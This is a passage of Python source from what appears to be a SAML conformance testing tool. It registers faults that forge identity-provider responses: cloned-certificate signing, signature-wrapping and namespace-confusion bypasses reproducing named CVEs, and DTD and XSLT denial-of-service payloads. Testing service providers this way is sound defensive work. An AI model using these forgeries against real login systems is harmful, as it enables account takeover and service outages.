    encrypt_element(nid, cert, block=(ctx.signing.encryption or {}).get("block", "aes256-gcm"))


register(Fault("nameid-encrypted", "NameID replaced by EncryptedID (to the SP's encryption cert), inside the signed Assertion",
               ("NID-10", "SAML Core 2.2.4"), tree=_encrypt_nameid))


def _base_id(root: etree._Element, ctx: FaultContext) -> None:
    nid = _nameid(root)
    b = etree.Element(q(SAML, "BaseID"), nsmap={"ext": "urn:samlconf:ext"})
    b.set("{http://www.w3.org/2001/XMLSchema-instance}type", "ext:CustomID")
    b.text = nid.text
    nid.addprevious(b)
    nid.getparent().remove(nid)


register(Fault("nameid-baseid", "BaseID (xsi:type ext:CustomID) instead of NameID", ("NID-11",), tree=_base_id))


# ============================================================================= batch: certs, IDs, char refs, encryption shapes
def _cloned(s: SigningOptions, ctx: FaultContext) -> None:
    """An attacker key in a cert copying the genuine cert's subject, issuer, serial and validity."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization

    from .keys import KeyPair

    real = ctx.idp.key.certificate
    attacker = ctx.idp.attacker_key
    pk = serialization.load_pem_private_key(attacker.key_pem, password=None)
    cert = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.issuer)
        .public_key(pk.public_key())
        .serial_number(real.serial_number)
        .not_valid_before(real.not_valid_before_utc)
        .not_valid_after(real.not_valid_after_utc)
        .sign(pk, hashes.SHA256())
    )
    s.key = KeyPair(attacker.key_pem, cert.public_bytes(serialization.Encoding.PEM))
    s.key_info = "x509"


register(Fault("sig-cloned-cert", "Signed by an attacker key whose cert clones the IdP cert's subject, issuer, serial and dates",
               ("SIG-10", "CVE-2015-5372", "SAML Raider: clone certificate"), signing=_cloned))


def _encryption_key_signs(s: SigningOptions, ctx: FaultContext) -> None:
    keys = getattr(ctx.idp, "encryption_keys", [])
    if not keys:
        raise ValueError("key-encryption-only needs MockIdP(encryption_keys=[...]) (a key published with use=\"encryption\")")
    s.key = keys[0]


register(Fault("key-encryption-only", "Signed with the IdP key its metadata publishes for encryption only",
               ("KEY-06",), signing=_encryption_key_signs))


def _drop_assertion_id(root: etree._Element, ctx: FaultContext) -> None:
    del _assertion(root).attrib["ID"]


register(Fault("assertion-id-missing", "The signed Assertion's ID attribute removed after signing",
               ("SIG-18", "SAML Core 1.3.4"), signing=_assertion_signed(), signed=_drop_assertion_id))


def _dup_id(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, "{urn:samlconf:decoy}Decoy", nsmap={"decoy": "urn:samlconf:decoy"}, ID=a.get("ID"))
    root.find(q(SAML, "Issuer")).addnext(ext)


register(Fault("duplicate-id", "A decoy element in samlp:Extensions carrying the signed Assertion's ID",
               ("SIG-18", "SAML Core 1.3.4"), signing=_assertion_signed(), signed=_dup_id))


def _char_ref(xml: bytes, ctx: FaultContext) -> bytes:
    import html

    name_id = ctx.spec.user.name_id
    esc = html.escape(name_id, quote=False).encode()
    needle = b">" + esc + b"</saml:NameID>"
    if not name_id or needle not in xml:
        raise ValueError("NameID text not found for the character reference")
    first = f"&#x{ord(name_id[0]):x};".encode()
    return xml.replace(needle, b">" + first + html.escape(name_id[1:], quote=False).encode() + b"</saml:NameID>", 1)


register(Fault("nameid-char-ref", "The first NameID character written as a character reference (&#x61;...); the signature stays valid",
               ("CMT-05",), bytes_=_char_ref, stage_override="pre-sign"))


def _with_encryption(**enc: Any) -> Callable[[SigningOptions, FaultContext], None]:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.encryption = {**s.encryption, **enc}

    return signing


def _enc_data(root: etree._Element) -> etree._Element:
    found = root.find(f"{q(SAML, 'EncryptedAssertion')}/{{http://www.w3.org/2001/04/xmlenc#}}EncryptedData")
    if found is None:
        raise ValueError("no EncryptedAssertion (the SP needs an encryption certificate)")
    return found


_XENC = "http://www.w3.org/2001/04/xmlenc#"


@register_factory("encrypted-type", "EncryptedData Type attribute changed (\"...#Content\") or removed (\"\")",
                  ("ENC-08",), type="http://www.w3.org/2001/04/xmlenc#Content")
def _enc_type(type: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        ed = _enc_data(root)
        if type:
            ed.set("Type", type)
        else:
            ed.attrib.pop("Type", None)

    return Fault("", "", signing=_with_encryption(), encrypted=signed)


@register_factory("encrypted-missing", "EncryptedData without its KeyInfo (part=keyinfo) or its EncryptionMethod (part=method)",
                  ("ENC-09",), part="keyinfo")
def _enc_missing(part: str) -> Fault:
    if part not in ("keyinfo", "method"):
        raise ValueError("part must be keyinfo or method")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        ed = _enc_data(root)
        tag = q(DS, "KeyInfo") if part == "keyinfo" else q(_XENC, "EncryptionMethod")
        el = next(c for c in ed if c.tag == tag)
        ed.remove(el)

    return Fault("", "", signing=_with_encryption(), encrypted=signed)


def _second_enc_key(root: etree._Element, ctx: FaultContext) -> None:
    ed = _enc_data(root)
    ek = _iter_tag(ed, q(_XENC, "EncryptedKey"))[0]
    bogus = copy.deepcopy(ek)
    for cv in _iter_tag(bogus, q(_XENC, "CipherValue")):
        import base64

        raw = bytearray(base64.b64decode("".join((cv.text or "").split())))
        raw[:8] = b"\0" * 8
        cv.text = base64.b64encode(bytes(raw)).decode()
    ek.addprevious(bogus)


register(Fault("encrypted-two-keys", "Two EncryptedKey elements: a bogus one first, the one that decrypts second",
               ("ENC-05",), signing=_with_encryption(), encrypted=_second_enc_key))


@register_factory("encrypted-corrupt", "One byte of the EncryptedData ciphertext flipped (at offset; -1 = last byte)",
                  ("ENC-07",), block="aes128-cbc", offset=-1)
def _enc_corrupt(block: str, offset: int) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        import base64

        ed = _enc_data(root)
        cv = next(c for c in ed if c.tag == q(_XENC, "CipherData"))[0]
        raw = bytearray(base64.b64decode("".join((cv.text or "").split())))
        raw[int(offset)] ^= 0x01
        cv.text = base64.b64encode(bytes(raw)).decode()

    return Fault("", "", signing=_with_encryption(block=block), encrypted=signed)


register(Fault("encrypted-dtd", "The encrypted plaintext starts with a DOCTYPE declaring an entity",
               ("ENC-10",), signing=_with_encryption(plaintext_prefix=b'<!DOCTYPE saml:Assertion [<!ENTITY x "y">]>')))


@register_factory("encrypted-attribute", "One Attribute sent as EncryptedAttribute (to the SP's encryption cert)",
                  ("ENC-11", "SAML Core 2.7.3.2"), name=None)
def _enc_attr(name: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        from .encryption import encrypt_element

        sp = ctx.sp
        cert = (ctx.signing.encryption or {}).get("cert") or (sp.encryption_certs[0] if sp and sp.encryption_certs else None)
        if cert is None:
            raise ValueError("encrypted-attribute needs the SP's encryption certificate")
        attr = _attr_el(root, _pick_attr(ctx.spec, name))
        wrapper = etree.Element(q(SAML, "EncryptedAttribute"))
        attr.addprevious(wrapper)
        wrapper.append(attr)
        encrypt_element(attr, cert)

    return Fault("", "", tree=tree)


# ============================================================================= batch: signatures borrowed from other signed documents
@register_factory("xsw-foreign-signed",
                  "Response and Assertion unsigned (victim optional); samlp:Extensions holds a genuine IdP-signed other document "
                  "(source=error: a signed error Response; source=metadata: the signed IdP metadata)",
                  ("XSW-14", "XSW-15", "XSW-16"), source="error", victim=None)
def _foreign(source: str, victim: str | None) -> Fault:
    if source not in ("error", "metadata"):
        raise ValueError("source must be error or metadata")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        idp = ctx.idp
        if source == "error":
            from .builder import STATUS_REQUESTER, build_status_response
            from .signing import sign

            other = build_status_response(issuer=idp.entity_id, destination=ctx.spec.destination,
                                          in_response_to=None, status_code=STATUS_REQUESTER)
            sign(other, other, ctx.signing.key or idp.key)
        else:
            other = etree.fromstring(idp.metadata_xml(sign=True))
        ext = etree.Element(q(SAMLP, "Extensions"))
        ext.append(other)
        root.find(q(SAML, "Issuer")).addnext(ext)
        a = root.find(q(SAML, "Assertion"))
        if a is not None:
            _victimize(a, victim)
        ctx.notes["foreign_id"] = other.get("ID")

    return Fault("", "", signing=_set_signing(sign_response=False, sign_assertion=False), signed=signed)


@register_factory("xsw-cve-2025-23369",
                  "Response signature removed; the Assertion's signature copied under the Response after Issuer with a "
                  "ds:Object holding the original Assertion; the real Assertion renamed ID+'ffff' (victim optional)",
                  ("XSW-09", "CVE-2025-23369"), victim=None)
def _xsw09(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        rs = _sig(root)
        if rs is not None:
            root.remove(rs)
        a = _assertion(root)
        original = _drop_sig(copy.deepcopy(a))
        sig_copy = copy.deepcopy(_asig(root))
        obj = etree.SubElement(sig_copy, q(DS, "Object"))
        obj.append(original)
        root.find(q(SAML, "Issuer")).addnext(sig_copy)
        a.set("ID", a.get("ID") + "ffff")
        _victimize(a, victim)

    return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=True), signed=signed)


def _pollution(root: etree._Element, ctx: FaultContext) -> None:
    original = root.get("ID")
    root.set("ID", "_attack")
    root.set(q(SAMLP, "ID"), original)


register(Fault("id-attribute-pollution",
               "Response ID changed to _attack and a namespaced samlp:ID carrying the signed ID (the Reference still says #ID)",
               ("PDF-04",), signed=_pollution))


@register_factory("doctype-roundtrip",
                  "DOCTYPE round-trip differential (ruby-saml CVE-2025-25291 layout): DOCTYPE SYSTEM 'x\"><!--', a forged "
                  "unsigned Response, and inside it a CDATA section holding the genuine signed Response",
                  ("PDF-01", "CVE-2025-25291"), victim="victim@example.com")
def _doctype_rt(victim: str) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        original = xml.split(b"?>", 1)[1].strip() if xml.startswith(b"<?xml") else xml
        forged = etree.fromstring(original)
        for s in _iter_tag(forged, q(DS, "Signature")):
            s.getparent().remove(s)
        a = forged.find(q(SAML, "Assertion"))
        if a is not None:
            _victimize(a, victim)
        forged_b = etree.tostring(forged)
        close = forged_b.rindex(b"</")
        inner = b"<![CDATA[-->" + original + b"<!--]]>-->"
        return (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_b[:close] + inner + forged_b[close:])

    return Fault("", "", bytes_=b)


@register_factory("encrypted-xsw",
                  "Inside the EncryptedAssertion, a wrapped assertion: the signed original edited in place (victim) with an "
                  "unsigned clean copy in ds:Object of its Signature (XSW8 shape), then encrypted; Response signed",
                  ("ENC-03",), victim="victim@example.com")
def _enc_xsw(victim: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.sign_assertion = True
        s.encrypt = False  # this fault encrypts itself, after wrapping
        ctx.notes["encrypt_after_wrap"] = True

    def encrypted(root: etree._Element, ctx: FaultContext) -> None:
        from .encryption import encrypt_assertions

        a = _assertion(root)
        original = _drop_sig(copy.deepcopy(a))
        _victimize(a, victim)
        etree.SubElement(_asig(root), q(DS, "Object")).append(original)
        encrypt_assertions(root, ctx)

    return Fault("", "", signing=signing, encrypted=encrypted)


# ============================================================================= batch: remaining cheap catalogue shapes
def _no_response_issuer(root: etree._Element, ctx: FaultContext) -> None:
    root.remove(root.find(q(SAML, "Issuer")))


register(Fault("response-issuer-missing", "The (signed) Response has no Issuer", ("ISS-04", "SAML Prof 4.1.4.2"),
               tree=_no_response_issuer))


@register_factory("name-qualifier", "NameID carries NameQualifier (default: another IdP) and SPNameQualifier (default: the SP)",
                  ("NID-05", "NID-06", "SAML Core 2.2.2"), name_qualifier="https://other-idp.example.com/idp", sp_name_qualifier=None)
def _qualifiers(name_qualifier: str | None, sp_name_qualifier: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        nid = _nameid(root)
        nid.set("NameQualifier", name_qualifier or ctx.idp.entity_id)
        nid.set("SPNameQualifier", sp_name_qualifier or (ctx.spec.audience or ""))

    return Fault("", "", tree=tree)


def _two_refs(root: etree._Element, ctx: FaultContext) -> None:
    import xmlsec

    from .signing import DIGEST_ALGORITHMS, SIGNATURE_ALGORITHMS, _xmlsec_key

    a = _assertion(root)
    old = _sig(a)
    if old is not None:
        a.remove(old)
    ext = etree.Element(q(SAMLP, "Extensions"))
    decoy = etree.SubElement(ext, "{urn:samlconf:decoy}Decoy", nsmap={"decoy": "urn:samlconf:decoy"}, ID="_decoy")
    decoy.text = "decoy"
    root.find(q(SAML, "Issuer")).addnext(ext)
    sig = xmlsec.template.create(a, xmlsec.constants.TransformExclC14N, SIGNATURE_ALGORITHMS[ctx.signing.algorithm], ns="ds")
    a.find(q(SAML, "Issuer")).addnext(sig)
    for uri in ("#" + a.get("ID"), "#_decoy"):
        ref = xmlsec.template.add_reference(sig, DIGEST_ALGORITHMS[ctx.signing.digest], uri=uri)
        if uri != "#_decoy":
            xmlsec.template.add_transform(ref, xmlsec.constants.TransformEnveloped)
        xmlsec.template.add_transform(ref, xmlsec.constants.TransformExclC14N)
    ki = xmlsec.template.ensure_key_info(sig)
    x = etree.SubElement(ki, q(DS, "X509Data"))
    etree.SubElement(x, q(DS, "X509Certificate")).text = (ctx.signing.key or ctx.idp.key).cert_b64
    sctx = xmlsec.SignatureContext()
    sctx.key = _xmlsec_key(ctx.signing.key or ctx.idp.key)
    sctx.register_id(a, "ID")
    sctx.register_id(decoy, "ID")
    sctx.sign(sig)


register(Fault("sig-two-references", "The Assertion's SignedInfo has two References: the Assertion and a decoy in Extensions (valid)",
               ("SIG-12", "SAML Core 5.4.2"), signing=_assertion_signed(), signed=_two_refs))


register(Fault("expires-now", "Conditions and SubjectConfirmationData NotOnOrAfter equal the issue instant (expired at once)",
               ("TIME-07", "SAML Core 2.5.1.2"), spec=lambda s, ctx: replace(s, lifetime=0, scd_lifetime=0)))


@register_factory("dtd-quadratic", "One large internal entity referenced many times in an AttributeValue (quadratic blowup)",
                  ("XML-06",), size=100_000, count=10_000)
def _quadratic(size: int, count: int) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = xml.replace(b"</saml:AttributeValue>", b"&a;" * int(count) + b"</saml:AttributeValue>", 1)
        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY a "' + b"x" * int(size) + b'">]>')

    return Fault("", "", bytes_=b)


def _xslt_dos(root: etree._Element, ctx: FaultContext) -> None:
    transforms = _iter_tag(_asig(root), q(DS, "Transforms"))[0]
    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
    main = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
    call = etree.SubElement(main, q(XSLT_NS, "call-template"), name="d")
    etree.SubElement(call, q(XSLT_NS, "with-param"), name="n", select="27")
    d = etree.SubElement(ss, q(XSLT_NS, "template"), name="d")
    etree.SubElement(d, q(XSLT_NS, "param"), name="n")
    when = etree.SubElement(etree.SubElement(d, q(XSLT_NS, "choose")), q(XSLT_NS, "when"), test="$n > 0")
    for _ in range(2):
        c = etree.SubElement(when, q(XSLT_NS, "call-template"), name="d")
        etree.SubElement(c, q(XSLT_NS, "with-param"), name="n", select="$n - 1")


register(Fault("xslt-dos", "An XSLT Transform with an exponential recursive template (2^27 calls) in the Assertion signature",
               ("XML-09",), signing=_assertion_signed(), signed=_xslt_dos))


# ============================================================================= namespace confusion (ruby-saml class)
def _exc_digest(el: etree._Element, digest: str = "sha256") -> str:
    """The enveloped-signature + exc-c14n digest of `el` as a verifier would compute it."""
    import base64
    import hashlib

    c = copy.deepcopy(el)
    _drop_sig(c)
    data = etree.tostring(c, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.new(digest.replace("-", ""), data).digest()).decode()


def _forge_in_place(root: etree._Element, ctx: FaultContext, victim: str | None) -> etree._Element:
    """Victimize the signed Assertion and fix its DigestValue to the forged content (SignatureValue now stale);
    return a deep copy of the original, genuine Signature."""
    a = _assertion(root)
    genuine = copy.deepcopy(_asig(root))
    _victimize(a, victim)
    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
        dv.text = _exc_digest(a, ctx.signing.digest)
    return genuine


def _strip_ns(el: etree._Element) -> etree._Element:
    out = etree.Element(etree.QName(el).localname, {k: v for k, v in el.attrib.items()})
    out.text, out.tail = el.text, el.tail
    for c in el:
        if isinstance(c.tag, str):
            out.append(_strip_ns(c))
    return out


@register_factory("attlist-namespace-confusion",
                  "DTD ATTLIST giving 'Signature' a #FIXED dsig xmlns; a namespace-less copy of the genuine Signature in "
                  "samlp:StatusDetail; the Assertion forged (victim) with its DigestValue recomputed; a U+0080 namespace",
                  ("PDF-02", "CVE-2025-25292"), victim="victim@example.com")
def _attlist(victim: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        genuine = _forge_in_place(root, ctx, victim)
        status = root.find(q(SAMLP, "Status"))
        detail = etree.SubElement(status, q(SAMLP, "StatusDetail"))
        detail.append(_strip_ns(genuine))

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = xml.replace(b"<saml:Assertion ", '<saml:Assertion xmlns:example="http://example.com\u0080" '.encode(), 1)
        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
                             b'"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>')

    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)


@register_factory("xml-xmlns-confusion",
                  "The genuine Assertion Signature hidden in samlp:Extensions under <Parent xmlns=dsig><Child xml:xmlns=\"#other\">; "
                  "the Assertion forged (victim) keeping a fake Signature with a recomputed DigestValue",
                  ("PDF-03", "PDF-12", "CVE-2025-66567"), victim="victim@example.com")
def _xml_xmlns(victim: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        genuine = _forge_in_place(root, ctx, victim)
        ext = etree.Element(q(SAMLP, "Extensions"))
        parent = etree.SubElement(ext, q(DS, "Parent"), nsmap={None: DS})
        child = etree.SubElement(parent, q(DS, "Child"))
        child.set("{http://www.w3.org/XML/1998/namespace}xmlns", "#other")
        child.append(genuine)
        root.find(q(SAML, "Issuer")).addnext(ext)

    return Fault("", "", signing=_assertion_signed(), signed=signed)
